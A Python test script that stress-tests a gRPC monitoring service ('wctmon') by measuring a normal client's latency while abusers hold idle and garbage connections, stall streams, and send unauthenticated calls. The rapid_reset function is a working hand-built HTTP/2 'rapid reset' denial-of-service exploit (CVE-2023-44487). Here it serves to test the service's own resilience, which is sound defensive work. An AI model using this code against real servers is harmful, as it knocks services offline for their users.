#!/usr/bin/python3
"""Abuses wctmon's API while a well-behaved client calls it, and says what each side saw.

Usage: api_abuse.py PROTO_DIR WORK_DIR TCP_TARGET UNIX_SOCKET READER_TOKEN [SECONDS]

First the well-behaved client alone: GetStatus over TCP, one call after the other, for SECONDS
(default 3). Then the same while, at once:
  - 1,000 connections are opened to the TCP port and the Unix socket and left idle;
  - 50 more send bytes that are no HTTP/2 (random, then an HTTP/1.1 request) and stay open;
  - 200 WatchIncidents streams subscribe and never read (their HTTP/2 window held small);
  - a client opens a WatchIncidents stream and cancels it at once, over and over;
  - a client that writes the same HTTP/2 by hand, as fast as a socket takes it: batches of
    200 WatchIncidents streams each cancelled at once (RST_STREAM), connecting again whenever it
    is cut off (the "rapid reset" of CVE-2023-44487);
  - calls with no token and with a token that is not one.
The abusers run in a process of their own, each on a connection of its own. Prints one JSON
object: the well-behaved client's calls, failures and latency p50/p99/max (ms) alone and under
abuse, the abusers' counts and the status codes they got."""
import json
import os
import random
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time

import grpc

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from api_client import stubs  # noqa: E402


def percentile(values, p):
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p * (len(values) - 1))))] if values else None


def well_behaved(stub, metadata, messages, seconds):
    latencies, failures = [], []
    until = time.time() + seconds
    while time.time() < until:
        start = time.perf_counter()
        try:
            stub.GetStatus(messages.GetStatusRequest(), metadata=metadata, timeout=5)
            latencies.append((time.perf_counter() - start) * 1000)
        except grpc.RpcError as e:
            failures.append(e.code().name)
    return {"calls": len(latencies) + len(failures), "failures": failures,
            "p50_ms": statistics.median(latencies) if latencies else None,
            "p99_ms": percentile(latencies, 0.99), "max_ms": max(latencies, default=None)}


# A channel of its own: gRPC Python shares one connection between channels to the same address
# with the same options, and one abuser's connection, once cut off, must not take another's calls.
OWN_CONNECTION = [("grpc.use_local_subchannel_pool", 1)]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK header field, literal and not indexed, no Huffman coding."""
    def string(text):
        data = text.encode()
        assert len(data) < 127
        return bytes([len(data)]) + data
    return b"\x00" + string(name) + string(value)


def rapid_reset(host, port, token, stop, counts):
    """Opens WatchIncidents streams and cancels each at once, 200 to a write, over and over."""
    request = b"".join(literal(n, v) for n, v in [
        (":method", "POST"), (":scheme", "http"), (":path", "/wctmon.v1.Monitor/WatchIncidents"),
        (":authority", "wctmon"), ("content-type", "application/grpc"), ("te", "trailers"),
        ("authorization", "Bearer " + token)])
    empty_message = frame(0, 1, 0, b"\x00\x00\x00\x00\x00")  # DATA, END_STREAM (id set below)
    while not stop.is_set():
        try:
            s = socket.create_connection((host, int(port)))
        except OSError:
            counts["refused"] += 1
            time.sleep(0.01)
            continue
        counts["connections"] += 1
        stream = 1
        try:
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            while not stop.is_set():
                batch = []
                for _ in range(200):
                    batch.append(frame(1, 4, stream, request))  # HEADERS, END_HEADERS
                    batch.append(empty_message[:5] + struct.pack(">I", stream) + empty_message[9:])
                    batch.append(frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
                    stream += 2
                s.sendall(b"".join(batch))
                counts["streams"] += 200
        except OSError:
            counts["cut_off"] += 1
        finally:
            s.close()


def abuse(messages, services, tcp, unix_path, metadata):
    """The abusers, in a process of their own (so that they do not take the well-behaved
    client's interpreter): they start, print "ready", go on until stdin closes, then print what
    they got as JSON."""
    host, port = tcp.rsplit(":", 1)
    idle = []
    for i in range(1000):
        s = socket.socket(socket.AF_UNIX if i % 2 else socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.connect(unix_path if i % 2 else (host, int(port)))
            idle.append(s)
        except OSError:
            s.close()
    garbage = []
    rnd = random.Random(7)
    for i in range(50):
        s = socket.create_connection((host, int(port)))
        try:
            s.sendall(bytes(rnd.randrange(256) for _ in range(4096)) if i % 2 else
                      b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        except OSError:
            pass
        garbage.append(s)
    watchers = []
    for _ in range(200):
        c = grpc.insecure_channel(tcp, options=[("grpc.http2.lookahead_bytes", 1024),
                                                ("grpc.http2.bdp_probe", 0)])
        call = services.MonitorStub(c).WatchIncidents(messages.WatchIncidentsRequest(),
                                                      metadata=metadata)
        watchers.append((c, call))

    stop = threading.Event()
    churn = {"streams": 0}

    def open_and_cancel():
        c = grpc.insecure_channel(tcp, options=OWN_CONNECTION)
        s = services.MonitorStub(c)
        while not stop.is_set():
            call = s.WatchIncidents(messages.WatchIncidentsRequest(), metadata=metadata)
            call.cancel()
            churn["streams"] += 1
        c.close()

    refused = {}

    def strangers():
        stub = services.MonitorStub(grpc.insecure_channel(tcp, options=OWN_CONNECTION))
        while not stop.is_set():
            for md in ([], [("authorization", "Bearer not-a-token")]):
                try:
                    stub.ListIncidents(messages.ListIncidentsRequest(), metadata=md, timeout=5)
                    code = "OK"
                except grpc.RpcError as e:
                    code = e.code().name
                refused[code] = refused.get(code, 0) + 1
            time.sleep(0.01)

    raw = {"connections": 0, "streams": 0, "cut_off": 0, "refused": 0}
    token = metadata[0][1].split(" ", 1)[1]
    threads = [threading.Thread(target=open_and_cancel), threading.Thread(target=strangers),
               threading.Thread(target=rapid_reset, args=(host, port, token, stop, raw))]
    for t in threads:
        t.start()
    print("ready", flush=True)
    sys.stdin.read()
    stop.set()
    for t in threads:
        t.join()
    watch_codes = {}
    for c, call in watchers:
        code = call.code().name if call.done() else "OPEN"
        watch_codes[code] = watch_codes.get(code, 0) + 1
        call.cancel()
        c.close()
    for s in idle + garbage:
        s.close()
    print(json.dumps({"idle_connections": len(idle), "garbage_connections": len(garbage),
                      "watchers": watch_codes, "opened_and_cancelled": churn["streams"],
                      "rapid_reset": raw, "strangers": refused}), flush=True)


def main():
    abuser = sys.argv[1] == "--abuser"
    args = sys.argv[2:] if abuser else sys.argv[1:]
    proto_dir, work_dir, tcp, unix_path, token_file = args[:5]
    seconds = float(args[5]) if len(args) > 5 else 3.0
    messages, services = stubs(proto_dir, work_dir)
    with open(token_file) as f:
        metadata = [("authorization", "Bearer " + f.read().strip())]
    if abuser:
        abuse(messages, services, tcp, unix_path, metadata)
        return
    stub = services.MonitorStub(grpc.insecure_channel(tcp))
    result = {"alone": well_behaved(stub, metadata, messages, seconds)}
    abusers = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--abuser", *args],
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    if abusers.stdout.readline().strip() != "ready":
        sys.exit("the abusers did not start")
    time.sleep(0.5)
    result["abused"] = well_behaved(stub, metadata, messages, seconds)
    abusers.stdin.close()
    result.update(json.loads(abusers.stdout.readline()))
    abusers.wait()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
